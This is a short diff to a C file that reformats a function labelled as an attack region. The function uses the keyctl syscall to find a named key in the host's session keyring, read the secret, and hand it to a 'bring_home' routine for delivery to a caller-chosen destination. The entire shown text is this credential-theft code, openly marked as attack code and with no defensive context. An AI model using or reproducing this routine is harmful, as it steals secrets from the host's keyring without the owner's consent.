@@ -6,11 +6,15 @@
 #include <linux/keyctl.h>
 #include <sys/syscall.h>
 
+// #region attack
 /* argv: what the key is called, where to put what was found. */
 void keyring(char **argv)
 {
 	char found[256];
-	const long key = must(syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", argv[0], 0), "find the host's key");
-	const long length = must(syscall(SYS_keyctl, KEYCTL_READ, key, found, sizeof found), "read it");
-	bring_home(argv[1], found, length < (long)sizeof found ? length : (long)sizeof found);
+	long key = must(syscall(SYS_keyctl, KEYCTL_SEARCH,
+		KEY_SPEC_SESSION_KEYRING, "user", argv[0], 0), "find the host's key");
+	long length = must(syscall(SYS_keyctl, KEYCTL_READ,
+		key, found, sizeof found), "read it");
+	bring_home(argv[1], found, length < 256 ? length : 256);
 }
+// #endregion attack
